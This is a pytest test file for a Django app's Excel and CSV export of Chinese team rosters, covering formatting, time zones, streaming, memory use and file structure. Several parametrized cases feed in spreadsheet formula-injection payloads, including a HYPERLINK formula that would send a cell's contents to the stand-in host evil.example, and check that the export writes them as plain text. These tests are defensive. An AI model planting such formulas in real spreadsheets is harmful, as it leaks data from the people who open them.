"""The shared export: Excel formatting, text that never becomes a formula, the file name, streaming; and
the same columns as CSV, UTF-8 with the byte order mark."""

import csv
import os
import shutil
import subprocess
import tempfile
import tracemalloc
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from unittest import mock
from urllib.parse import unquote

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from core import exports
from core.exports import DATE, DATETIME, INT, NUMBER, Column, csv_response, display_width, xlsx_response
from teams.models import Team
from tests.workbooks import close_outside_a_request, download, sheet_xml, workbook_of

DEFAULT_WIDTH = 13  # what openpyxl reports for a column the file gives no width
MB = 1024 * 1024


@dataclass
class Row:
    name: str
    founded: date | None = None
    registered: datetime | None = None
    members: int | None = None
    score: Decimal | None = None


def columns():
    return [
        Column("班组名称", lambda row: row.name, width=24),
        Column("成立日期", lambda row: row.founded, kind=DATE),
        Column("登记时间", lambda row: row.registered, kind=DATETIME),
        Column("现有人数", lambda row: row.members, kind=INT),
        Column("所在基层工会全称及统一社会信用代码", lambda row: row.score, kind=NUMBER),
    ]


def export(rows, name="班组名单"):
    response = xlsx_response(name=name, columns=columns(), rows=rows)
    return response, download(response)


class CountedRows:
    """A row source that tells how many rows have been read, and whether it was closed."""

    def __init__(self, rows):
        self.rows = rows
        self.read = 0
        self.closed = False

    def __iter__(self):
        try:
            for row in self.rows:
                self.read += 1
                yield row
        finally:
            self.closed = True


def test_the_header_is_bold_frozen_and_filtered_and_the_columns_fit():
    _response, data = export([Row("甲班"), Row("乙班"), Row("丙班")])
    sheet = workbook_of(data).active
    assert [cell.value for cell in sheet[1]] == [
        "班组名称",
        "成立日期",
        "登记时间",
        "现有人数",
        "所在基层工会全称及统一社会信用代码",
    ]
    assert all(cell.font.b for cell in sheet[1]) and not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"
    # The declared width, and a long Chinese header counted at two per character (17 characters).
    assert sheet.column_dimensions["A"].width == 24
    assert sheet.column_dimensions["E"].width >= 34 > DEFAULT_WIDTH
    assert sheet.column_dimensions["B"].width > DEFAULT_WIDTH - 2


def test_an_empty_export_still_has_its_header_and_filter():
    _response, data = export([])
    sheet = workbook_of(data).active
    assert sheet.max_row == 1 and sheet.auto_filter.ref == "A1:E1" and sheet.freeze_panes == "A2"


def test_dates_are_dates_in_shanghai_and_numbers_are_numbers():
    # 16:30 UTC on 30 November is 00:30 on 1 December in Shanghai.
    registered = datetime(2026, 11, 30, 16, 30, tzinfo=UTC)
    _response, data = export([Row("甲班", date(2020, 5, 4), registered, 12, Decimal("87.5"))])
    row = workbook_of(data).active[2]
    founded, when, members, score = row[1], row[2], row[3], row[4]
    assert founded.is_date and founded.value == datetime(2020, 5, 4) and founded.number_format == "yyyy-mm-dd"
    assert when.is_date and when.value == datetime(2026, 12, 1, 0, 30) and when.value.tzinfo is None
    assert when.number_format == "yyyy-mm-dd hh:mm"
    assert members.data_type == "n" and members.value == 12
    assert score.data_type == "n" and score.value == 87.5


def test_an_empty_value_is_an_empty_cell():
    _response, data = export([Row("")])
    assert [cell.value for cell in workbook_of(data).active[2]] == [None] * 5


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "=1+1",
    ],
)
def test_user_text_is_never_a_formula(text):
    _response, data = export([Row(text)])
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    cell = workbook_of(data).active["A2"]
    assert cell.data_type == "s" and cell.value == text


def test_a_carriage_return_is_kept_as_a_line_break_and_never_a_formula():
    # XML turns a bare carriage return into a line feed on reading; the export writes the line feed
    # itself (Excel's own line break in a cell), so what is written is what comes back.
    _response, data = export([Row("\r=1"), Row("第一行\r\n第二行")])
    assert "<f>" not in sheet_xml(data)
    sheet = workbook_of(data).active
    assert sheet["A2"].value == "\n=1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "第一行\n第二行"


def test_a_value_of_the_wrong_kind_is_written_as_text():
    _response, data = export([Row("甲班", founded="不详", members="=1+1")])
    sheet = workbook_of(data).active
    assert sheet["B2"].value == "不详" and sheet["D2"].value == "=1+1" and sheet["D2"].data_type == "s"
    assert "<f>" not in sheet_xml(data)


def test_characters_xml_forbids_are_dropped_instead_of_failing():
    _response, data = export([Row("梦桃\x00班\x07组\x1b")])
    assert workbook_of(data).active["A2"].value == "梦桃班组"


def test_a_chinese_file_name_with_todays_date_and_no_caching():
    response, data = export([Row("甲班")])
    filename = f"班组名单-{timezone.localdate():%Y%m%d}.xlsx"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert unquote(disposition.split("''", 1)[1]) == filename
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Cache-Control"] == "private, no-store"
    # Streamed: the length is not known when the headers leave.
    assert response.streaming and not response.has_header("Content-Length")
    assert workbook_of(data).sheetnames == ["班组名单"]


def test_the_file_name_date_is_shanghais_date():
    # 17:00 UTC on 30 November is already 1 December in Shanghai.
    with mock.patch("django.utils.timezone.now", return_value=datetime(2026, 11, 30, 17, 0, tzinfo=UTC)):
        response = xlsx_response(name="班组名单", columns=columns(), rows=[])
    download(response)
    assert "20261201" in unquote(response["Content-Disposition"])


def test_display_width_counts_chinese_characters_double():
    assert display_width("Team") == 4
    assert display_width("班组") == 4
    assert display_width("QC小组") == 6


def test_choice_labels_are_the_translated_labels():
    assert exports.choice_labels(Team, "status") == {"pending": "待审核", "approved": "已登记", "rejected": "未通过"}


def test_blocks_leave_while_the_rows_are_still_being_read():
    names = [os.urandom(24).hex() for _ in range(20_000)]
    source = CountedRows(Row(name) for name in names)
    response = xlsx_response(name="班组名单", columns=columns(), rows=source)
    assert response.streaming and source.read == 0  # nothing is read before the response is sent
    chunks, read_when_sent = [], []
    for chunk in response.streaming_content:
        chunks.append(chunk)
        read_when_sent.append(source.read)
    close_outside_a_request(response)
    # The first bytes leave before the first row is read, and blocks of the sheet while it is read.
    assert read_when_sent[0] == 0
    assert len([read for read in read_when_sent if 0 < read < len(names)]) >= 3
    assert all(len(chunk) <= exports.SEND_BLOCK_BYTES for chunk in chunks)
    sheet = load_workbook(BytesIO(b"".join(chunks)), read_only=True).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == names
    assert source.closed


def test_a_long_export_takes_little_memory_whatever_its_length():
    # Made before memory is traced; repeated far apart enough that the compressor cannot shorten them.
    distinct = [
        Row(os.urandom(128).hex(), date(2020, 5, 4), datetime(2026, 1, 1, tzinfo=UTC), number, Decimal("87.5"))
        for number in range(2000)
    ]
    tracemalloc.start()
    try:
        rows = (distinct[number % 2000] for number in range(20_000))
        response = xlsx_response(name="班组名单", columns=columns(), rows=rows)
        size = sum(len(chunk) for chunk in response.streaming_content)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Neither the file nor its sheet is ever held whole: the most held at once is a fraction of it.
    assert size > 3 * MB and peak < 2 * MB


def test_a_row_source_failing_midway_breaks_the_download_off_and_is_logged(tmp_path, monkeypatch, caplog):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows():
        yield Row("甲班")
        raise RuntimeError("the database went away")

    source = CountedRows(rows())
    response = xlsx_response(name="班组名单", columns=columns(), rows=source)
    assert source.read == 0
    # The error reaches the server, which ends the transfer unfinished: the browser reports a
    # failed download instead of keeping a file that looks complete.
    with pytest.raises(RuntimeError, match="went away"):
        download(response)
    (record,) = [record for record in caplog.records if record.name == "core.exports"]
    assert record.levelname == "ERROR" and record.exc_info
    assert "班组名单" in record.getMessage() and "1 rows written" in record.getMessage()
    # Nothing was written to disk on the way.
    assert list(tmp_path.iterdir()) == []


def test_a_download_cut_short_closes_the_row_source():
    source = CountedRows(Row(os.urandom(24).hex()) for _ in range(20_000))
    response = xlsx_response(name="班组名单", columns=columns(), rows=source)
    for _chunk in response.streaming_content:
        if source.read:
            break
    # What a WSGI server does when the browser goes away; a queryset's cursor is closed with it.
    close_outside_a_request(response)
    assert 0 < source.read < 20_000 and source.closed


def test_the_file_is_a_plain_zip_that_excel_and_openpyxl_open():
    _response, data = export([Row("甲班", date(2020, 5, 4), members=3), Row("乙班")])
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert archive.testzip() is None
        infos = archive.infolist()
    assert {info.filename for info in infos} == {
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/core.xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    }
    # No member is ZIP64 (Excel calls a file damaged when a member uses it without needing it).
    assert all(info.extract_version == 20 and info.compress_type == zipfile.ZIP_DEFLATED for info in infos)
    # Read a row at a time, as openpyxl reads large files, it holds what it holds read whole (less
    # the empty cells at a row's end: the sheet's size is not declared before its rows).
    read_only = load_workbook(BytesIO(data), read_only=True)
    assert read_only.sheetnames == ["班组名单"]
    short_rows = list(read_only.active.values)
    whole = [row[: len(short)] for row, short in zip(workbook_of(data).active.values, short_rows, strict=True)]
    assert short_rows == whole
    assert whole[1:] == [("甲班", datetime(2020, 5, 4), None, 3), ("乙班",)]


def test_what_excel_cannot_hold_as_a_date_or_a_number_is_written_as_text():
    _response, data = export(
        [
            Row("甲班", date(1899, 12, 31), datetime(1900, 2, 28, 8, 0), float("nan"), Decimal("Infinity")),
            Row("乙班", date(1900, 3, 1), datetime(1900, 3, 1, 8, 0), 7, Decimal("1E+2")),
            Row("丙班", datetime(1899, 12, 31, 8, 0), date(1880, 1, 1), float("-inf")),
        ]
    )
    sheet = workbook_of(data).active
    assert [cell.value for cell in sheet[2]] == ["甲班", "1899-12-31", "1900-02-28 08:00", "nan", "Infinity"]
    assert [cell.value for cell in sheet[4]] == ["丙班", "1899-12-31", "1880-01-01", "-inf", None]
    assert all(cell.data_type == "s" for cell in sheet[2] + sheet[4][:4])
    # The first day Excel counts right is a date again.
    assert sheet["B3"].is_date and sheet["B3"].value == datetime(1900, 3, 1)
    assert sheet["C3"].value == datetime(1900, 3, 1, 8, 0) and sheet["E3"].value == 100


def test_a_text_longer_than_a_cell_holds_is_cut_to_excels_limit():
    # An emoji is two of Excel's characters; a cut never leaves half of one.
    _response, data = export([Row("梦" * 40_000), Row("班" + "😀" * 20_000)])
    sheet = workbook_of(data).active
    assert sheet["A2"].value == "梦" * exports.MAX_CELL_CHARACTERS
    assert sheet["A3"].value == "班" + "😀" * 16_383


def test_text_that_looks_like_excels_own_escapes_is_escaped_in_turn():
    # Excel reads "_x0041_" in a cell as "A"; written as "_x005F_x0041_" it reads as typed (the
    # LibreOffice test below reads it back; openpyxl does not undo these escapes in inline strings).
    _response, data = export([Row("编号_x0041_与_x4E2D_")])
    assert "编号_x005F_x0041_与_x005F_x4E2D_" in sheet_xml(data)


def test_a_sheet_name_keeps_to_what_excel_allows():
    assert exports.sheet_name("申报名单[2026]/第1批?") == "申报名单2026第1批"
    assert exports.sheet_name("'" + "长" * 40 + "'") == "长" * 31
    response = xlsx_response(name="班组:名单", columns=columns(), rows=[])
    assert workbook_of(download(response)).sheetnames == ["班组名单"]


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_file_as_written(tmp_path):
    registered = datetime(2026, 11, 30, 16, 30, tzinfo=UTC)
    rows = [
        Row('=HYPERLINK("http://evil.example/","点此查看")', date(2020, 5, 4), registered, 12, Decimal("87.5")),
        Row("_x0041_ <b>&amp;</b>\r\n第二行"),
    ]
    _response, data = export(rows)
    (tmp_path / "export.xlsx").write_bytes(data)
    subprocess.run(
        [
            "libreoffice",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "export.xlsx"),
        ],
        env={**os.environ, "HOME": str(tmp_path)},
        check=True,
        capture_output=True,
        timeout=180,
    )
    with open(tmp_path / "export.csv", newline="", encoding="utf-8") as table:
        header, first, second = csv.reader(table)
    assert header[0] == "班组名称"
    # Text, not a formula (a formula would show its result, 点此查看); a date, a time, numbers.
    assert first == ['=HYPERLINK("http://evil.example/","点此查看")', "2020-05-04", "2026-12-01 00:30", "12", "87.5"]
    assert second == ["_x0041_ <b>&amp;</b>\n第二行", "", "", "", ""]


def test_an_unknown_column_kind_is_refused():
    with pytest.raises(ValueError, match="money"):
        Column("金额", lambda row: row, kind="money")


# --- CSV -----------------------------------------------------------------------------------------


def csv_export(rows):
    response = csv_response(name="班组名单", columns=columns(), rows=rows)
    return response, download(response)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_csv_begins_with_the_byte_order_mark_and_is_utf8():
    registered = datetime(2026, 11, 30, 16, 30, tzinfo=UTC)
    response, data = csv_export([Row("赵梦桃小组", date(2020, 5, 4), registered, 12, Decimal("87.5")), Row("乙班")])
    assert data.startswith("\ufeff".encode())
    header, first, second = read_csv(data)
    assert header == ["班组名称", "成立日期", "登记时间", "现有人数", "所在基层工会全称及统一社会信用代码"]
    # Dates as Excel reads them, the time in Shanghai; numbers as numbers; nothing for nothing.
    assert first == ["赵梦桃小组", "2020-05-04", "2026-12-01 00:30", "12", "87.5"]
    assert second == ["乙班", "", "", "", ""]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    assert unquote(response["Content-Disposition"].split("''", 1)[1]) == f"班组名单-{timezone.localdate():%Y%m%d}.csv"
    assert response.streaming and not response.has_header("Content-Length")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/","点此查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_csv_text_that_would_be_a_formula_opens_as_text(text):
    _response, data = csv_export([Row(text, members="=1+1")])
    (_header, row) = read_csv(data)
    assert row[0] == "'" + text and row[3] == "'=1+1"


def test_csv_keeps_commas_quotes_and_line_breaks_inside_a_cell():
    _response, data = csv_export([Row('甲班, "一线"\r\n第二行')])
    assert read_csv(data)[1][0] == '甲班, "一线"\n第二行'


def test_a_csv_leaves_while_the_rows_are_still_being_read():
    source = CountedRows(Row(os.urandom(24).hex()) for _ in range(20_000))
    response = csv_response(name="班组名单", columns=columns(), rows=source)
    assert source.read == 0
    read_when_sent = []
    for _chunk in response.streaming_content:
        read_when_sent.append(source.read)
    close_outside_a_request(response)
    assert len([read for read in read_when_sent if 0 < read < 20_000]) >= 3
    assert source.closed
